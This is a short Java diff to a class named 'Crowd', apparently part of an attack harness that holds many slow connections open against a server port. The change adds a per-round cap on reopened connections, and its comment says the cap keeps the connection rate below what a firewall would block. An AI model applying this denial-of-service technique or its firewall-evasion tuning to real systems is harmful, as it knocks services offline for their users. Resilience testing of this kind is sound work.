@@ -15,6 +15,13 @@ final class Crowd implements Attackers.Attack {
 
   private static final long ROUND_MILLIS = 500;
 
+  /**
+   * All are opened at once at the beginning; later, this many in a round keep the places taken,
+   * because the server closes none before a second has passed, and leave the rate of connections at
+   * what a firewall lets pass.
+   */
+  private static final int AGAIN_PER_ROUND = 25;
+
   private final int connections;
   private final byte[] greeting;
   private final byte[] drip;
@@ -32,8 +39,9 @@ final class Crowd implements Attackers.Attack {
   @Override
   public void send(Attackers from, int port) throws IOException {
     List<Socket> open = new ArrayList<>();
+    int wanted = connections;
     while (!from.areOver()) {
-      while (open.size() < connections && !from.areOver()) {
+      while (open.size() < wanted && !from.areOver()) {
         Socket socket = from.connect(port);
         socket.setSoTimeout(1);
         socket.getOutputStream().write(greeting);
@@ -41,6 +49,7 @@ final class Crowd implements Attackers.Attack {
       }
       from.pause(ROUND_MILLIS);
       dropClosed(from, open);
+      wanted = Math.min(connections, open.size() + AGAIN_PER_ROUND);
     }
   }
 
